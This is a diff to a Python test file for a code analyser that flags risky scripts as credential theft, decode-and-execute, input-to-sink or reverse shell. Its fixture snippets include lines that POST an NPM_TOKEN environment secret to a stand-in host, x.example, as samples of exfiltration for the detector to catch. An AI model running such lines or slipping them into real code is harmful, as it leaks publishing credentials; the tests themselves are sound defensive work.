@@ -28,6 +28,8 @@ SCRIPTS = {
     "network-prefix": "import http.client as hc, os\nc = hc.HTTPSConnection('x.example')\nc.request('POST', '/', os.environ['NPM_TOKEN'])\n",
     "urlopen-prefix": "import urllib.request, os\nurllib.request.urlopen('https://x.example', data=os.environ['NPM_TOKEN'])\n",
     "argv-ldap": "import sys, ldap\nconn = ldap.initialize('ldap://x')\nconn.search_s('(uid=%s)' % sys.argv[1], 2)\n",
+    "argv-find-built": "import sys\ncoll.find(\"name == '%s'\" % sys.argv[1])\n",
+    "argv-no-weak-sink": "import sys\nname = sys.argv[1]\nprint('{}'.format(name), name.find('x'), text.search(name))\n",
     "input-template": "name = input()\ntpl = '{}' + name\ntpl.format(1)\n",
     "tool-return": "import os\n@mcp.tool()\ndef env():\n    return dict(os.environ)\n",
     "sql-param": "def find(db, name):\n    db.execute(f\"SELECT * FROM t WHERE n = '{name}'\")\n",
@@ -45,7 +47,7 @@ EXPECTED = {
     "constructor-alias": c.CRED_EXFIL, "getattr-folded": c.DECODE_EXEC, "builtins-subscript": c.DECODE_EXEC, "vars-subscript": c.DECODE_EXEC,
     "dunder-builtins": c.DECODE_EXEC, "import-module": c.DECODE_EXEC, "sending-method": c.CRED_EXFIL,
     "os-exec-prefix": c.DECODE_EXEC, "network-prefix": c.CRED_EXFIL, "urlopen-prefix": c.CRED_EXFIL,
-    "argv-ldap": c.INPUT_TO_SINK, "input-template": c.INPUT_TO_SINK, "tool-return": c.SENSITIVE_READ,
+    "argv-ldap": c.INPUT_TO_SINK, "argv-find-built": c.INPUT_TO_SINK, "input-template": c.INPUT_TO_SINK, "tool-return": c.SENSITIVE_READ,
     "sql-param": c.INPUT_TO_SINK, "sql-raw": c.INPUT_TO_SINK, "capture": c.SURVEILLANCE, "setuid": c.PRIVILEGE, "reverse-shell": c.REVERSE_SHELL,
 }
 
@@ -77,6 +79,7 @@ def test_a_module_without_sink_names_skips_the_scope_passes(monkeypatch):
 
     monkeypatch.setattr(pf.PythonFlow, "scope_passes", refuse)
     _facts(SCRIPTS["no-sink"])  # re.compile, str.format and a `raw` attribute that is never called are no sinks here
+    _facts(SCRIPTS["argv-no-weak-sink"])  # untrusted input, but no call a query or template sink takes it from
     with pytest.raises(AssertionError):
         _facts(SCRIPTS["input-template"])
 
